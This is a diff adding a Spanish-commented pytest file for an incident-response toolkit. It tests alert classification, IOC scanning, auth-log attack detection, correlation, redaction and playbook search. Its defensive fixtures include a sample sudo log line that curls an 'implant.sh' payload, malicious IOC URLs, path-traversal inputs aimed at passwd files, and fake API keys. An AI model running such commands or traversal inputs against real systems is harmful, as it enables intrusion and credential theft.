@@ -0,0 +1,587 @@
+"""Tests de las herramientas de respuesta a incidentes."""
+import asyncio
+import csv
+import gzip
+import json
+import os
+import random
+import time
+
+import pytest
+
+from cyberguard_agents.tools import alert_pipeline
+from cyberguard_agents.tools.alert_pipeline import (
+    classify_alert_file,
+    iter_alert_records,
+    iter_classified,
+    iter_classified_ndjson,
+)
+
+from cyberguard_agents.tools.correlation import MAX_SAMPLE_CHARS, attach_playbooks, correlate, correlate_alerts
+from cyberguard_agents.tools.log_tools import analyze_auth_logs, analyze_logs
+from cyberguard_agents.tools import ioc_tools
+from cyberguard_agents.tools.ioc_tools import CidrTrie, load_iocs, scan_logs
+from cyberguard_agents.tools.incident_tools import (
+    IncidentClassifier,
+    classify_incident,
+    get_incident_playbook,
+)
+from cyberguard_agents.tools.playbook_index import find_playbooks, get_playbook_index, reset_playbook_index
+
+
+def test_classify_single_type():
+    result = classify_incident(
+        "Varios archivos del servidor aparecieron cifrados con extensión .locked"
+    )
+    assert result["status"] == "classified"
+    assert result["incident_type"] == "ransomware"
+    assert result["severity"] == "critical"
+
+
+def test_classify_mixed_incident_ranks_all_types():
+    result = classify_incident(
+        "Un empleado abrió un correo sospechoso de phishing y después los archivos "
+        "quedaron cifrados por ransomware con una nota de rescate"
+    )
+    assert result["incident_type"] == "ransomware"
+    assert "phishing" in result["related_types"]
+    assert [s["incident_type"] for s in result["scores"]] == ["ransomware", "phishing"]
+
+
+def test_classify_ignores_accents_and_case():
+    result = classify_incident("DENEGACIÓN DE SERVICIO en el portal")
+    assert result["incident_type"] == "ddos"
+
+
+def test_classify_unknown_description():
+    result = classify_incident("la impresora no imprime")
+    assert result["status"] == "unclassified"
+    assert "ransomware" in result["known_types"]
+
+
+def test_classifier_scales_to_many_types():
+    indicators = {
+        f"tipo_{t}": {f"indicador{t}x{k}": 1.0 for k in range(20)}
+        for t in range(300)
+    }
+    indicators["objetivo"] = {"exfiltracion masiva": 5.0}
+    classifier = IncidentClassifier(indicators)
+    text = ("texto de relleno sin indicadores " * 200) + "exfiltracion masiva indicador7x3"
+
+    started = time.perf_counter()
+    for _ in range(100):
+        ranked = classifier.score(text)
+    elapsed = time.perf_counter() - started
+
+    assert ranked[0]["incident_type"] == "objetivo"
+    assert ranked[1]["incident_type"] == "tipo_7"
+    # 6000 indicadores, ~6 KB de texto: la regex factorizada se mantiene en milisegundos
+    assert elapsed / 100 < 0.05
+
+
+SAMPLE_ALERTS = [
+    {"rule": {"name": "Ransomware behavior"}, "message": "archivos cifrados con extension .locked"},
+    {"title": "Phishing reportado", "description": "correo sospechoso con enlace de credenciales"},
+    {"signature": "DDoS SYN flood detectado contra el portal"},
+    {"message": "usuario cambio su fondo de pantalla"},
+]
+
+
+def _write_alerts(path, count):
+    with gzip.open(path, "wt", encoding="utf-8") as f:
+        for i in range(count):
+            f.write(json.dumps({"id": i, **SAMPLE_ALERTS[i % len(SAMPLE_ALERTS)]}) + "\n")
+
+
+def test_alert_records_from_csv_and_jsonl(tmp_path):
+    csv_path = tmp_path / "alerts.csv"
+    with csv_path.open("w", newline="") as f:
+        writer = csv.DictWriter(f, fieldnames=["id", "severity", "message"])
+        writer.writeheader()
+        writer.writerow({"id": "1", "severity": "high", "message": "nota de rescate ransomware"})
+    jsonl_path = tmp_path / "alerts.jsonl.gz"
+    _write_alerts(jsonl_path, 4)
+
+    [row] = list(iter_classified(iter_alert_records(csv_path), workers=1))
+    assert row["severity"] == "high"  # el campo original del SIEM se conserva
+    assert row["classification"]["incident_type"] == "ransomware"
+    assert [r["id"] for r in iter_alert_records(jsonl_path)] == [0, 1, 2, 3]
+
+
+def test_ndjson_stream_emits_incremental_summaries():
+    lines = [json.loads(line) for line in iter_classified_ndjson(
+        (dict(a) for a in SAMPLE_ALERTS * 2), workers=1, summary_every=4,
+    )]
+    summaries = [line for line in lines if line["type"] == "summary"]
+    assert sum(line["type"] == "alert" for line in lines) == 8
+    assert [s["alerts_processed"] for s in summaries] == [4, 8, 8]
+    assert summaries[-1]["final"] is True
+    assert summaries[-1]["by_type"] == {"ransomware": 2, "phishing": 2, "ddos": 2, "unclassified": 2}
+
+
+class CountingPool:
+    """Pool en el mismo proceso que cuenta los lotes enviados."""
+
+    def __init__(self):
+        self.submitted = 0
+
+    def submit(self, func, *args):
+        from concurrent.futures import Future
+        self.submitted += 1
+        future = Future()
+        future.set_result(func(*args))
+        return future
+
+
+def test_single_chunk_skips_the_pool():
+    pool = CountingPool()
+    records = list(iter_classified((dict(a) for a in SAMPLE_ALERTS), workers=8, pool=pool))
+    assert pool.submitted == 0 and len(records) == 4
+
+    records = list(iter_classified((dict(a) for a in SAMPLE_ALERTS * 3), workers=8, chunk_size=4, pool=pool))
+    assert pool.submitted == 3
+    assert [r["classification"]["incident_type"] for r in records[:4]] == ["ransomware", "phishing", "ddos", None]
+
+
+def test_summarize_alert_export_reuses_shared_pool(tmp_path, monkeypatch):
+    monkeypatch.setenv("CYBERGUARD_ALERT_WORKERS", "2")
+    monkeypatch.setenv("CYBERGUARD_EXPORT_DIR", str(tmp_path))
+    path = tmp_path / "alerts.jsonl.gz"
+    _write_alerts(path, 4_000)
+    try:
+        first = asyncio.run(alert_pipeline.summarize_alert_export(str(path)))
+        pool = alert_pipeline.get_alert_pool()
+        second = asyncio.run(alert_pipeline.summarize_alert_export("alerts.jsonl.gz"))
+        assert alert_pipeline.get_alert_pool() is pool
+        assert first["by_type"] == second["by_type"] == {
+            "ransomware": 1_000, "phishing": 1_000, "ddos": 1_000, "unclassified": 1_000,
+        }
+    finally:
+        alert_pipeline.shutdown_alert_pool()
+    assert alert_pipeline._pool is None
+
+
+def test_summarize_alert_export_stays_in_export_dir(tmp_path, monkeypatch):
+    exports = tmp_path / "exports"
+    exports.mkdir()
+    (exports / "siem.jsonl").write_text(json.dumps(
+        {"message": "Ransomware detectado, archivos cifrados con extension .locked, api_key=AKIA123 " + "x" * 400}
+    ) + "\n")
+    (tmp_path / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
+    monkeypatch.setenv("CYBERGUARD_EXPORT_DIR", str(exports))
+
+    for path in (str(tmp_path / "passwd"), "../passwd", str(exports)):
+        assert asyncio.run(alert_pipeline.summarize_alert_export(path))["status"] == "error"
+    summary = asyncio.run(alert_pipeline.summarize_alert_export("siem.jsonl"))
+    [example] = summary["critical_examples"]["ransomware"]
+    assert "AKIA123" not in example and len(example) <= alert_pipeline.MAX_EXAMPLE_CHARS
+
+
+def test_alert_pipeline_throughput(tmp_path):
+    path = tmp_path / "alerts.jsonl.gz"
+    _write_alerts(path, 20_000)
+
+    inline = classify_alert_file(path, workers=1)
+    pooled = classify_alert_file(path, output=tmp_path / "out.jsonl", workers=2)
+    for summary in (inline, pooled):
+        assert summary["alerts_processed"] == 20_000
+        assert summary["by_type"]["ransomware"] == 5_000
+        assert summary["by_severity"]["critical"] >= 5_000
+    assert inline["alerts_per_second"] > 5_000
+    # El pool conserva el orden de entrada
+    with (tmp_path / "out.jsonl").open() as f:
+        assert [json.loads(line)["id"] for line in f][:5] == [0, 1, 2, 3, 4]
+
+
+IOCS = [
+    "185.220.101.0/24",
+    "185.220.101.128/25",
+    "203.0.113.66",
+    "evil[.]xyz",
+    "hxxps://payload.bad-cdn.net:8443/stage2",
+    "44D88612FEA8A8F36DE82E1278ABB02F",
+    "2001:db8:dead::/48",
+    "no es un indicador",
+]
+
+
+def test_ioc_set_compiles_indicator_types():
+    iocs = load_iocs(IOCS)
+    assert iocs.counts() == {"ips": 1, "cidrs": 3, "domains": 2, "hashes": 1, "rejected": 1}
+    assert iocs.match_ip("185.220.101.200") == ("185.220.101.128/25", "cidr")
+    assert iocs.match_ip("185.220.101.7") == ("185.220.101.0/24", "cidr")
+    assert iocs.match_ip("203.0.113.66") == ("203.0.113.66", "ip")
+    assert iocs.match_ip("203.0.113.67") is None
+    assert iocs.match_domain("C2.Evil.XYZ") == "evil.xyz"
+    assert iocs.match_domain("notevil.xyz") is None
+
+    trie = CidrTrie(32)
+    assert trie.lookup(0) is None
+
+
+def test_match_iocs_offsets_across_chunks(tmp_path):
+    rng = random.Random(7)
+    planted = [
+        "conexion saliente a 185.220.101.9 puerto 443",
+        "consulta DNS c2.evil.xyz tipo A",
+        "descarga https://payload.bad-cdn.net/stage2 hash=44d88612fea8a8f36de82e1278abb02f",
+        "login desde 2001:db8:dead:1::5",
+        "falsos positivos: 185.220.101.9.1 203.0.113.666 evil.xyz-mirror.com 10.0.0.1",
+    ]
+    lines = []
+    for i in range(20_000):
+        lines.append(f"2024-05-01T10:{i % 60:02d}:00 host{i % 50}.corp.local GET /index "
+                     f"from 10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}")
+        if i % 5_000 == 4_999:
+            lines.extend(planted)
+    log = tmp_path / "proxy.log"
+    log.write_text("\n".join(lines) + "\n")
+
+    iocs = load_iocs(IOCS)
+    data = log.read_bytes()
+    inline = scan_logs([str(log)], iocs, workers=1, chunk_bytes=64 * 1024)
+    pooled = scan_logs([str(tmp_path / "*.log")], iocs, workers=2, chunk_bytes=64 * 1024)
+    shared_pool = CountingPool()
+    shared = scan_logs([str(log)], iocs, workers=2, chunk_bytes=64 * 1024, pool=shared_pool)
+
+    assert inline["chunks"] > 10
+    # Con un pool compartido cada bloque se envia a ese pool, sin crear otro
+    assert shared_pool.submitted == inline["chunks"]
+    for result in (inline, pooled, shared):
+        assert result["total_hits"] == 5 * 4
+        assert result["hits_by_indicator"] == {
+            "185.220.101.0/24": 4, "evil.xyz": 4, "payload.bad-cdn.net": 4,
+            "44d88612fea8a8f36de82e1278abb02f": 4, "2001:db8:dead::/48": 4,
+        }
+    assert inline["hits"] == pooled["hits"] == shared["hits"]
+    for hit in inline["hits"]:
+        assert data[hit["offset"]:hit["offset"] + len(hit["matched"])].decode() == hit["matched"]
+        assert hit["line"] in planted
+
+
+def test_match_iocs_streams_gzip_in_blocks(tmp_path):
+    lines = [f"linea {i} desde 10.0.{i % 250}.1 sin nada" for i in range(5_000)]
+    for i in (10, 2_500, 4_999):
+        lines[i] = f"linea {i} conexion a 185.220.101.{i % 100} y c2.evil.xyz"
+    data = ("\n".join(lines)).encode()  # sin newline final: la ultima linea llega en el arrastre
+    with gzip.open(tmp_path / "proxy.log.1.gz", "wb") as f:
+        f.write(data)
+
+    ioc_tools._init_worker(load_iocs(IOCS))
+    hits, counts, total = ioc_tools._scan_gzip(str(tmp_path / "proxy.log.1.gz"), 1000, block_bytes=4096)
+
+    assert total == 6
+    assert counts == {"185.220.101.0/24": 3, "evil.xyz": 3}
+    for hit in hits:
+        # Offsets del contenido descomprimido, aunque la linea cruce el borde de un bloque
+        assert data[hit["offset"]:hit["offset"] + len(hit["matched"])].decode() == hit["matched"]
+        assert hit["line"].startswith("linea ") and hit["line"].endswith("c2.evil.xyz")
+    assert scan_logs(str(tmp_path / "proxy.log.1.gz"), load_iocs(IOCS), workers=1)["total_hits"] == 6
+
+
+def test_match_iocs_only_reads_configured_dirs(tmp_path, monkeypatch):
+    logs, feeds = tmp_path / "logs", tmp_path / "feeds"
+    logs.mkdir()
+    feeds.mkdir()
+    (logs / "proxy.log").write_text("conexion a 185.220.101.9 desde secreto-no-es-ioc\n")
+    (feeds / "tor.txt").write_text("# nodos de salida\n185.220.101.0/24\nroot:x:0:0:root:/root:/bin/bash\n")
+    secret = tmp_path / "passwd"
+    secret.write_text("root:x:0:0:root:/root:/bin/bash\nevil.xyz\n")
+    monkeypatch.setenv("CYBERGUARD_LOG_DIR", str(logs))
+    monkeypatch.setenv("CYBERGUARD_IOC_DIR", str(feeds))
+
+    result = asyncio.run(ioc_tools.match_iocs(["proxy.log", str(tmp_path / "pass*")], ["tor.txt"]))
+    assert result["status"] == "success" and result["total_hits"] == 1
+    assert result["files_scanned"] == 1 and result["missing_paths"] == [str(tmp_path / "pass*")]
+    # La linea que no es indicador solo se cuenta
+    assert result["indicators"]["rejected"] == 1 and "root:x" not in json.dumps(result)
+
+    # Fuera de los directorios no se abre nada: la ruta es un indicador invalido mas
+    outside = asyncio.run(ioc_tools.match_iocs(["proxy.log"], [str(secret)]))
+    assert outside == {"status": "error", "message": outside["message"], "rejected": 1}
+    assert asyncio.run(ioc_tools.match_iocs([str(secret)], ["evil.xyz"]))["status"] == "error"
+    assert asyncio.run(ioc_tools.match_iocs(["../passwd"], ["evil.xyz"]))["status"] == "error"
+
+
+def _syslog(ts, message):
+    return time.strftime("%b %e %H:%M:%S", time.gmtime(ts)) + f" bastion sshd[811]: {message}"
+
+
+def test_auth_log_detectors_and_timeline(tmp_path):
+    start = 1_714_557_600  # 2024-05-01 10:00 UTC
+    old, new = [], []
+    for i in range(30):
+        old.append(_syslog(start + i * 5, f"Failed password for root from 198.51.100.7 port {4000 + i} ssh2"))
+        old.append(_syslog(start + i * 5, "Accepted publickey for deploy from 10.0.0.5 port 22 ssh2"))
+    for i, user in enumerate(["ana", "luis", "marta", "pedro", "sofia", "juan"]):
+        new.append(_syslog(start + 600 + i * 30,
+                           f"Failed password for invalid user {user} from 203.0.113.9 port 5{i} ssh2"))
+    new.append(_syslog(start + 900, "Accepted password for root from 198.51.100.7 port 4100 ssh2"))
+    new.append(f"{time.strftime('%b %e %H:%M:%S', time.gmtime(start + 960))} bastion sudo:     root : "
+               "TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl http://x/implant.sh")
+    with gzip.open(tmp_path / "auth.log.1.gz", "wt") as f:
+        f.write("\n".join(old) + "\n")
+    (tmp_path / "auth.log").write_text("\n".join(new) + "\n")
+    for name in ("auth.log.1.gz", "auth.log"):
+        # syslog no incluye el anio: se toma de la fecha de modificacion del archivo
+        os.utime(tmp_path / name, (start, start))
+    vpn = [
+        {"@timestamp": "2024-05-01T09:00:00Z", "user": "ana", "src_ip": "192.0.2.10",
+         "outcome": "success", "lat": 40.4, "lon": -3.7},
+        {"@timestamp": "2024-05-01T09:40:00Z", "user": "ana", "src_ip": "192.0.2.99",
+         "outcome": "success", "lat": -34.6, "lon": -58.4},
+    ]
+    (tmp_path / "vpn.jsonl").write_text("\n".join(json.dumps(v) for v in vpn) + "\n")
+
+    report = analyze_logs([str(tmp_path)])
+
+    assert report["files"][:2] == [str(tmp_path / "auth.log.1.gz"), str(tmp_path / "auth.log")]
+    by_type = {f["type"]: f for f in report["findings"]}
+    assert set(by_type) == {"brute_force", "password_spraying", "compromise_suspected", "impossible_travel"}
+    assert by_type["brute_force"]["source_ip"] == "198.51.100.7"
+    assert by_type["brute_force"]["failures"] == 21
+    assert len(by_type["password_spraying"]["users"]) == 6
+    assert by_type["compromise_suspected"]["users"] == ["root"]
+    assert by_type["impossible_travel"]["distance_km"] > 9_000
+    assert report["findings"][0]["severity"] == "critical"
+    events = [e["event"] for e in report["timeline"]]
+    assert events == ["impossible_travel", "brute_force", "password_spraying",
+                      "compromise_suspected", "sudo_after_suspicious_login"]
+    assert report["event_counts"]["failure"] == 36
+
+
+def test_auth_log_year_rollover_and_malformed_json(tmp_path):
+    new_year = 1_735_689_600  # 2025-01-01 00:00 UTC
+    # auth.log.1 cruza el cambio de anio y se modifico en enero; auth.log es posterior
+    rotated = [_syslog(new_year - 120 + i * 24, f"Failed password for root from 198.51.100.7 port {i} ssh2")
+               for i in range(10)]
+    current = [_syslog(new_year + 600, "Accepted password for root from 198.51.100.7 port 4100 ssh2")]
+    (tmp_path / "auth.log.1").write_text("\n".join(rotated) + "\n")
+    (tmp_path / "auth.log").write_text("\n".join(current) + "\n")
+    os.utime(tmp_path / "auth.log.1", (new_year + 300, new_year + 300))
+    os.utime(tmp_path / "auth.log", (new_year + 3600, new_year + 3600))
+    vpn = [
+        json.dumps({"@timestamp": "2025-01-01T00:20:00Z", "user": "ana", "src_ip": "192.0.2.10",
+                    "outcome": "success", "lat": "norte", "lon": -3.7}),
+        "{no es json",
+        json.dumps({"@timestamp": "2025-01-01T00:30:00Z", "user": "ana", "src_ip": "192.0.2.10",
+                    "outcome": "success", "lat": 40.4, "lon": -3.7}),
+    ]
+    (tmp_path / "vpn.jsonl").write_text("\n".join(vpn) + "\n")
+
+    report = analyze_logs([str(tmp_path)])
+
+    assert report["time_range"] == {"start": "2024-12-31T23:58:00+00:00", "end": "2025-01-01T00:30:00+00:00"}
+    assert report["malformed_lines"] == 2
+    assert report["event_counts"] == {"failure": 10, "success": 2, "geolocated_logins": 1}
+    assert [e["event"] for e in report["timeline"]] == ["brute_force", "compromise_suspected"]
+
+
+def test_analyze_auth_logs_only_reads_log_dir(tmp_path, monkeypatch):
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    start = 1_714_557_600
+    (logs / "auth.log").write_text("\n".join(
+        _syslog(start + i, f"Failed password for root from 198.51.100.7 port {i} ssh2") for i in range(12)
+    ) + "\n")
+    (tmp_path / "auth.log.1").write_text(_syslog(start, "Accepted password for root from 10.0.0.9 port 1 ssh2") + "\n")
+    os.utime(logs / "auth.log", (start, start))
+    monkeypatch.setenv("CYBERGUARD_LOG_DIR", str(logs))
+
+    result = asyncio.run(analyze_auth_logs(["auth.log*", str(tmp_path / "auth.log*"), "../auth.log.1"]))
+    assert result["status"] == "success"
+    assert result["files"] == [str(logs / "auth.log")]
+    assert [f["type"] for f in result["findings"]] == ["brute_force"]
+    for paths in ([str(tmp_path / "auth.log.1")], ["../auth*"], ["/etc/passwd"]):
+        assert asyncio.run(analyze_auth_logs(paths))["status"] == "error"
+
+
+def test_auth_log_throughput(tmp_path):
+    noise = "bastion CRON[99]: pam_unix(cron:session): session opened for user root by (uid=0)"
+    with (tmp_path / "syslog").open("w") as f:
+        for i in range(200_000):
+            if i % 10:
+                f.write(f"May  1 10:{i // 6000 % 60:02d}:{i % 60:02d} {noise}\n")
+            else:
+                f.write(_syslog(1_714_557_600 + i // 100,
+                                f"Failed password for admin from 10.9.{i % 250}.1 port 22 ssh2") + "\n")
+    report = analyze_logs(str(tmp_path / "syslog"))
+    assert report["lines_read"] == 200_000
+    assert report["event_counts"]["failure"] == 20_000
+    assert report["mb_per_second"] > 5
+
+
+def _campaign_alerts(rng, scale=1):
+    base = 1_714_557_600
+    alerts = []
+    for i in range(500 * scale):
+        alerts.append({"@timestamp": base + i * 5, "title": "Phishing: correo sospechoso con enlace",
+                       "sender": "soporte@micr0soft-login.com", "user": f"empleado{i}@corp.com",
+                       "src_ip": "10.0.0.1"})
+    for i in range(50 * scale):
+        alerts.append({"@timestamp": base + 600 + i, "rule": {"name": "Ransomware: archivos cifrados"},
+                       "host": "srv-files-01", "file_hash": "44d88612fea8a8f36de82e1278abb02f",
+                       "src_ip": "10.0.0.1"})
+    for i in range(100 * scale):
+        alerts.append({"@timestamp": base + 1200 + i, "message": "Trafico anormal: SYN flood desde "
+                       "198.51.100.7 contra el portal", "dst_port": 443,
+                       "src_ip": "10.0.0.1"})
+    # Misma IP atacante pero dos dias despues: otro incidente por la ventana de tiempo
+    alerts.append({"@timestamp": base + 2 * 86400, "message": "flood desde 198.51.100.7 contra la VPN"})
+    for i in range(20):
+        alerts.append({"@timestamp": base + rng.randint(0, 3600), "message": f"evento sin relacion {i}",
+                       "host": f"pc-{i}"})
+    rng.shuffle(alerts)
+    return alerts
+
+
+def test_correlation_groups_campaigns_into_incidents():
+    alerts = _campaign_alerts(random.Random(1))
+    result = attach_playbooks(correlate(alerts, window=3600, max_fanout=600))
+
+    assert result["alerts"] == 671
+    assert result["incident_count"] == 3 + 1 + 20
+    assert result["common_indicators_ignored"][0] == {"indicator": "ip:10.0.0.1", "alerts": 650}
+    top = {i["incident_type"]: i for i in result["incidents"][:3]}
+    assert top["ransomware"]["alerts"] == 50
+    assert top["ransomware"]["severity"] == "critical"
+    assert "hash:44d88612fea8a8f36de82e1278abb02f" in top["ransomware"]["shared_indicators"]
+    assert top["phishing"]["alerts"] == 500
+    assert "domain:micr0soft-login.com" in top["phishing"]["shared_indicators"]
+    assert sorted(i["alerts"] for i in result["incidents"] if i["incident_type"] == "ddos") == [1, 100]
+    assert set(result["playbooks"]) == {"ransomware", "phishing", "ddos"}
+    assert result["unclassified_incidents"] == 20
+
+
+def test_correlate_alerts_reads_only_exports_and_redacts_samples(tmp_path, monkeypatch):
+    exports = tmp_path / "exports"
+    exports.mkdir()
+    alerts = [{"@timestamp": "2024-05-01T10:00:00Z", "src_ip": "198.51.100.7",
+               "message": f"Failed password for root, sesion token=tk-{i}s3cr3t " + "x" * 300}
+              for i in range(3)]
+    (exports / "siem.jsonl").write_text("\n".join(json.dumps(a) for a in alerts) + "\n")
+    (tmp_path / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
+
+    monkeypatch.delenv("CYBERGUARD_EXPORT_DIR", raising=False)
+    assert asyncio.run(correlate_alerts("siem.jsonl"))["status"] == "error"
+
+    monkeypatch.setenv("CYBERGUARD_EXPORT_DIR", str(exports))
+    for path in (str(tmp_path / "passwd"), "../passwd"):
+        outside = asyncio.run(correlate_alerts(path))
+        assert outside["status"] == "error" and "root:x" not in json.dumps(outside)
+
+    result = asyncio.run(correlate_alerts("siem.jsonl"))
+    [incident] = result["incidents"]
+    assert incident["alerts"] == 3
+    sample = incident["sample_alert"]
+    assert "s3cr3t" not in sample and "token=[redactado]" in sample and len(sample) <= MAX_SAMPLE_CHARS
+
+
+def test_correlation_scales_near_linearly():
+    rng = random.Random(2)
+    timings = []
+    for scale in (20, 80):
+        alerts = _campaign_alerts(rng, scale)
+        started = time.perf_counter()
+        result = correlate(alerts, max_fanout=10 ** 6)
+        timings.append((time.perf_counter() - started) / len(alerts))
+        # Sin limite de fanout la IP del proxy une todo lo que esta dentro de la ventana
+        assert result["incidents"][0]["alerts"] >= 650 * scale
+    # 4x alertas: el costo por alerta no debe crecer como en una correlacion cuadratica
+    assert timings[1] < timings[0] * 3
+    assert timings[1] < 1e-3
+
+
+def test_find_playbooks_ranks_runbooks_and_steps(monkeypatch):
+    monkeypatch.delenv("CYBERGUARD_PLAYBOOK_DIR", raising=False)
+    reset_playbook_index()
+    result = find_playbooks("Un usuario aprobó un push de MFA que no solicitó y apareció una regla de reenvío", 3)
+    assert result["status"] == "success"
+    best = result["results"][0]
+    assert best["playbook_id"] == "account_compromise"
+    steps = [step for phase in best["relevant_steps"].values() for step in phase]
+    assert any("reenvio" in step for step in steps)
+    assert len(steps) < 10
+
+    assert find_playbooks("archivos cifrados con nota de rescate")["results"][0]["playbook_id"] == "ransomware"
+    assert find_playbooks("zzz qqq")["status"] == "no_match"
+    # Los runbooks del directorio tambien se obtienen completos por id
+    assert get_incident_playbook("brute_force", "containment")["status"] == "success"
+    assert "load_errors" not in result
+
+
+def test_playbook_phase_must_be_a_phase(monkeypatch):
+    monkeypatch.delenv("CYBERGUARD_PLAYBOOK_DIR", raising=False)
+    reset_playbook_index()
+    for key in ("source", "keywords", "id", "title"):
+        result = get_incident_playbook("brute_force", key)
+        assert result["status"] == "error" and "containment" in result["message"]
+    assert get_incident_playbook("ransomware", "severity")["status"] == "error"
+    assert get_incident_playbook("brute_force", "recovery")["steps"] == [
+        "Desbloquear las cuentas legitimas afectadas por los bloqueos automaticos",
+    ]
+
+
+def test_invalid_runbooks_are_reported_per_file(tmp_path, monkeypatch):
+    pytest.importorskip("yaml")
+    (tmp_path / "bueno.json").write_text(json.dumps(
+        {"id": "dns_tunnel", "title": "tunel dns", "keywords": ["dns"], "containment": ["Bloquear el dominio"]}
+    ))
+    (tmp_path / "roto.yaml").write_text("id: x\ncontainment: [sin cerrar\n")
+    (tmp_path / "fase.json").write_text(json.dumps({"id": "fase", "containment": "Aislar el equipo"}))
+    (tmp_path / "claves.yml").write_text("id: claves\nkeywords: [1, 2]\ncontainment: [paso]\n")
+    monkeypatch.setenv("CYBERGUARD_PLAYBOOK_DIR", str(tmp_path))
+    reset_playbook_index()
+    try:
+        found = find_playbooks("tunel dns")
+        errors = {error["file"]: error["error"] for error in found["load_errors"]}
+        assert set(errors) == {"roto.yaml", "fase.json", "claves.yml"}
+        assert errors["roto.yaml"].startswith("YAML invalido") and str(tmp_path) not in errors["roto.yaml"]
+        assert "lista de textos" in errors["fase.json"] and "lista de textos" in errors["claves.yml"]
+        assert found["results"][0]["playbook_id"] == "dns_tunnel"
+        assert get_playbook_index().playbooks["dns_tunnel"]["source"] == "bueno.json"
+        assert get_incident_playbook("dns_tunnel", "containment")["steps"] == ["Bloquear el dominio"]
+    finally:
+        reset_playbook_index()
+
+
+def test_playbook_index_reloads_and_scales(tmp_path, monkeypatch):
+    rng = random.Random(4)
+    vocabulary = [f"termino{i}" for i in range(3000)]
+    runbooks = [
+        {
+            "id": f"runbook_{i}",
+            "title": " ".join(rng.sample(vocabulary, 4)),
+            "keywords": rng.sample(vocabulary, 5),
+            **{phase: [" ".join(rng.sample(vocabulary, 8)) for _ in range(4)]
+               for phase in ("immediate_actions", "containment", "recovery", "post_incident")},
+        }
+        for i in range(2000)
+    ]
+    (tmp_path / "corpus.json").write_text(json.dumps(runbooks))
+    (tmp_path / "roto.json").write_text("{no es json")
+    monkeypatch.setenv("CYBERGUARD_PLAYBOOK_DIR", str(tmp_path))
+    reset_playbook_index()
+
+    index = get_playbook_index()
+    assert len(index.ids) == 2004
+    assert len(index.errors) == 1
+    query = " ".join(runbooks[1234]["keywords"])
+    found = find_playbooks(query, 1)
+    assert found["results"][0]["playbook_id"] == "runbook_1234"
+    # El archivo roto se informa por nombre, sin la ruta del servidor
+    assert [error["file"] for error in found["load_errors"]] == ["roto.json"]
+    assert find_playbooks("zzz qqq")["load_errors"] == found["load_errors"]
+
+    started = time.perf_counter()
+    for _ in range(200):
+        index.search(query, 5)
+    per_query = (time.perf_counter() - started) / 200
+    assert per_query < 0.01
+
+    extra = tmp_path / "extra.json"
+    extra.write_text(json.dumps({"id": "nuevo", "title": "runbook agregado en caliente", "containment": ["paso"]}))
+    assert get_playbook_index() is not index
+    assert "nuevo" in get_playbook_index().playbooks
+    reset_playbook_index()
+